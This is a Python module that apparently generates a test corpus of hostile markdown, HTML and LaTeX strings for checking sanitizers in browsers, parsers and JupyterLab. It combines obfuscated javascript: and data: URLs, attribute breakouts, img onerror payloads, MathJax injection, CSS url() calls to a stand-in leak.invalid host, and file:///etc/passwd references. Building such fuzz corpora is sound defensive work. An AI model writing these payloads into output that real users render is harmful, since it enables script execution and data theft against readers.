"""Texts a model could write to harm its reader, made by combining what browsers, parsers and JupyterLab fall for."""

from __future__ import annotations

from html import escape
from itertools import product

from hostile_html import FOREIGN, html_vectors, senders

_SCRIPT_ADDRESSES = [
    "javascript:pwn()",
    "JaVaScRiPt:pwn()",
    " javascript:pwn()",
    "\tjavascript:pwn()",
    "\x01javascript:pwn()",
    "java\tscript:pwn()",
    "java\nscript:pwn()",
    "java&Tab;script:pwn()",
    "java&NewLine;script:pwn()",
    "javascript&colon;pwn()",
    "javascript&#58;pwn()",
    "&#106;avascript:pwn()",
    "&#x6A&#x61vascript:pwn()",
    "&#0000106avascript:pwn()",
    "javascript:/*</title></style></textarea>*/pwn()",
    "javascript://leak.invalid/%0apwn()",
    "javascript:&lt;img src=x onerror=pwn()&gt;",
    "feed:javascript:pwn()",
    "view-source:javascript:pwn()",
    "jar:javascript:pwn()!/",
    "vbscript:pwn()",
    "livescript:pwn()",
    "data:text/html,<script>parent.pwn()</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduKCk8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='pwn()'/>",
    "blob:https://leak.invalid/x",
    "filesystem:https://leak.invalid/x",
    "vscode://leak.invalid/",
    "file:///etc/passwd",
    "\\\\leak.invalid\\share",
    "//leak.invalid/x",
    "/api/terminals",
    "?token=1",
    "#x",
    "https:leak.invalid",
    "https:/leak.invalid",
    "https:///leak.invalid",
    "https://\\leak.invalid",
    "https://good.example\\@leak.invalid",
    "https://good.example%2f@leak.invalid",
    "https://leak%2einvalid/",
    "ｊavascript:pwn()",
    "java\u200bscript:pwn()",
    "java\u00adscript:pwn()",
]
_PLACES = ["<a href='{}'>x</a>", "[x]({})", "[x](<{}>)", "<{}>", "[x][y]\n\n[y]: {}", "![x]({})", "<iframe src='{}'>"]
_PLACES += ["<form action='{}'><button>x</button></form>", "<svg><a xlink:href='{}'><text>x</text></a></svg>"]

_BREAKOUTS = [
    '[a](https://good.example"onclick="pwn())',
    "[a](https://good.example 'b\" onclick=\"pwn()')",
    '[a](https://good.example "b&quot; onclick=&quot;pwn()")',
    '![a" onerror="pwn()](https://good.example)',
    '<https://good.example"onclick="pwn()>',
    'https://good.example/"onclick=pwn()',
    "https://good.example/'onclick=pwn()//",
    "[a][b]\n\n[b]: https://good.example 'c\" autofocus onfocus=\"pwn()'",
    '```" onclick="pwn()\nx\n```',
    "```x onmouseover=pwn()\nx\n```",
    "~~~<img/src=x/onerror=pwn()>\nx\n~~~",
    "```html\n<img src=x onerror=pwn()>\n```",
    "```js\n</code></pre><img src=x onerror=pwn()>\n```",
    "`</code><img src=x onerror=pwn()>`",
    "|<img src=x onerror=pwn()>|`<script>pwn()</script>`|\n|:-:|-|\n|</table><img src=x onerror=pwn()>|x|",
    '|x|\n|:-:" onclick="pwn()|\n|x|',
    '- [ ] <img src=x onerror=pwn()>\n- [x" onclick="pwn()] y',
    "<br onclick=pwn()>",
    "<br/ ><img src=x onerror=pwn()>",
    "[a\n\n](javascript:pwn())<img src=x onerror=pwn()>",
    "<a href='https://good.example'>[x](javascript:pwn())</a>",
    "\\<img src=x onerror=pwn()>",
    "*<img src=**x onerror=pwn()**>*",
    "&lt;img src=x onerror=pwn()&gt;",
    "&#60;img src=x onerror=pwn()&#62;",
    "&amp;lt;img src=x onerror=pwn()&amp;gt;",
]

_FORMULAS = [
    rf"\{command}{{{content}}}"
    for command, content in product(
        (
            "text",
            "textbf",
            "texttt",
            "mbox",
            "hbox",
            "fbox",
            "operatorname",
            "mathrm",
            "tag",
            "emph",
            "verb",
            "boxed",
        ),
        (
            "<img src=x onerror=pwn()>",
            "</mtext></math><img src=x onerror=pwn()>",
            "&lt;img src=x onerror=pwn()&gt;",
            "<details/open/ontoggle=pwn()>",
            "<style><img src=x onerror=pwn()></style>",
            "<a href='javascript:pwn()'>x</a>",
        ),
    )
]
_FORMULAS += [
    r"\href{javascript:pwn()}{x}",
    r"\href{https://leak.invalid}{x}",
    r"\class{jp-Dialog}{x}",
    r"\style{position:fixed;background:url(https://leak.invalid)}{x}",
    r"\color{url(https://leak.invalid)}{x}",
    r"\textcolor{red;background:url(https://leak.invalid)}{x}",
    r"\colorbox{url(https://leak.invalid)}{x}",
    r"\fcolorbox{x}{url(https://leak.invalid)}{<img src=x onerror=pwn()>}",
    r"\verb|<img src=x onerror=pwn()>|",
    r"\hspace{-9999em}x",
    r"\raise{999em}{x}",
    r"\rule{9999em}{9999em}",
    r"\unicode{202E}x",
    r"\unicode{3c}img src=x onerror=pwn()\unicode{3e}",
    r"\mathchoice{<img src=x onerror=pwn()>}{<img src=x onerror=pwn()>}{}{}",
    r"\begin{matrix}<img src=x onerror=pwn()>\end{matrix}",
    r"\newcommand{\a}{<img src=x onerror=pwn()>}\a",
    r"\left<img src=x onerror=pwn()\right>",
    "&#x3c;img src=x onerror=pwn()&#x3e;",
]

# What stands before and after a text in a document.
WRAPPINGS = {
    "alone": ("", ""),
    "link text": ("[", "](https://good.example)"),
    "link title": ("[x](https://good.example '", "')"),
    "image text": ("![", "](https://good.example/x.png)"),
    "fence info": ("```", "\nx\n```"),
    "fence": ("```html\n", "\n```"),
    "code": ("``", "``"),
    "table": ("| a | b |\n|---|---|\n| ", " | x |"),
    "list": ("- x\n\n  ", ""),
    "quote": ("> ", ""),
    "heading": ("# ", ""),
    "emphasis": ("**x ", " y**"),
    "formula": ("$", "$"),
    "formula text": ("$$\n\\text{", "}\n$$"),
    "bracket formula": ("\\(", "\\)"),
}


def vectors() -> list[str]:
    """Make all texts, each once."""
    addresses = [place.format(address) for place, address in product(_PLACES, _SCRIPT_ADDRESSES)]
    encoded = [escape(text) for text in (*FOREIGN, *senders())]
    return list(dict.fromkeys([*html_vectors(), *addresses, *_BREAKOUTS, *_FORMULAS, *encoded]))


def wrapped() -> list[str]:
    """Put each text into each place of a document."""
    return [before + text + after for (before, after), text in product(WRAPPINGS.values(), vectors())]
